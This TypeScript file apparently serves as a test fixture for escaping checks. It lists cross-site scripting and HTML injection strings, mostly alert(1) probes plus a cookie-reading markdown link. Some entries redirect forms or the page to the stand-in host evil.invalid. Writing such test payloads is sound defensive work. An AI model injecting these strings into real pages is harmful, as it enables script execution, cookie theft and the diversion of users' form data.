/** Texts that would do harm in a page that does not escape them, or that hide something from its reader. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  script: "<script>alert(1)</script>",
  "end of an attribute": '"><img src=x onerror=alert(1)>',
  "end of an attribute in single quotes": "'><svg onload=alert(1)>",
  "event handler": '" autofocus onfocus=alert(1) x="',
  "address of a script": "javascript:alert(1)",
  "markdown link": "[click](javascript:alert(document.cookie))",
  "end of a text area": "</textarea></title></style><script>alert(1)</script>",
  comment: "<!--<script>alert(1)</script>",
  entity: "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;script>",
  template: "</template><script>alert(1)</script>",
  "CDATA section": "<![CDATA[<script>alert(1)</script>]]>",
  frame: "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  base: "<base href=//evil.invalid><form action=//evil.invalid><button>",
  meta: '<meta http-equiv="refresh" content="0;url=//evil.invalid">',
  "lines of an event": '\n\nevent: regions\ndata: {"state":"<script>alert(1)</script>"}\n\n',
};
